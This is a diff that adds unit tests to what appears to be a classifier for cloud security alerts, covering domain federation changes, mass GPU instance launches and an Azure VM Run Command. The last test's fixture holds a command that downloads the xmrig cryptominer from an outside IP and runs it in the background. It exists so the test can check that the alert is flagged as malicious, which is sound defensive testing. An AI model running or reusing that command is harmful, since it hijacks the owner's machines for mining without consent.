@@ -173,4 +173,41 @@ public sealed class CloudProductTests
         var night = Assess(Sentinel("Reset user password", "helpdesk.one", Foreign, "", Night));
         Assert.DoesNotContain(night.Evidence, e => e.Key == "routine_user_admin");
     }
+
+    [Fact]
+    public void Federating_a_domain_with_a_new_token_issuer_stays_open_even_in_business_hours()
+    {
+        var federated = Assess(Sentinel("Set domain authentication", "cloud.admin", "10.20.1.5", "\"Federated\"", displayName: "LiveType"));
+        Assert.Contains(federated.Evidence, e => e.Key == "federation_changed");
+        Assert.NotEqual(Classification.Benign, federated.Classification);
+    }
+
+    [Fact]
+    public void A_fleet_of_gpu_instances_from_one_call_is_flagged_but_two_memory_instances_are_not()
+    {
+        static string Launch(string type, int count) => $$$"""
+            {"detection_name": "ec2-instances-launched", "eventTime": "2026-11-18 14:00:00.000", "eventID": "e-2", "eventName": "RunInstances",
+             "eventSource": "ec2.amazonaws.com", "awsRegion": "us-east-1", "sourceIPAddress": "10.20.1.5", "userAgent": "Boto3/1.35.44",
+             "principal_arn": "arn:aws:iam::123456789012:user/researcher-cli", "principal_type": "IAMUser", "errorCode": null,
+             "requestParameters": "{\"instanceType\":\"{{{type}}}\",\"minCount\":{{{count}}}}", "recipientAccountId": "123456789012"}
+            """;
+        var fleet = Assess(Launch("p3.16xlarge", 40));
+        Assert.Contains(fleet.Evidence, e => e.Key == "gpu_fleet_launched");
+        Assert.NotEqual(Classification.Benign, fleet.Classification);
+
+        var analysis = Assess(Launch("r6i.8xlarge", 2));
+        Assert.DoesNotContain(analysis.Evidence, e => e.Key == "gpu_fleet_launched");
+    }
+
+    [Fact]
+    public void A_run_command_script_in_a_prisma_alert_is_read_as_a_command_line()
+    {
+        var miner = Assess(Prisma("Azure Virtual Machine Run Command executed", "audit_event",
+            """
+            {"operationName": "Microsoft.Compute/virtualMachines/runCommand/action", "caller": "ops.one@globex.com", "callerIpAddress": "10.20.1.5",
+             "script": "curl -s http://5.42.92.16/x/xmrig.tar.gz | tar xz -C /tmp && nohup /tmp/xmrig -o 5.42.92.16:443 --cuda &"}
+            """, "vm-gpu-1"));
+        Assert.Contains(miner.Evidence, e => e.Supports == Leaning.Malicious && e.Key != "detector_severity");
+        Assert.NotEqual(Classification.Benign, miner.Classification);
+    }
 }
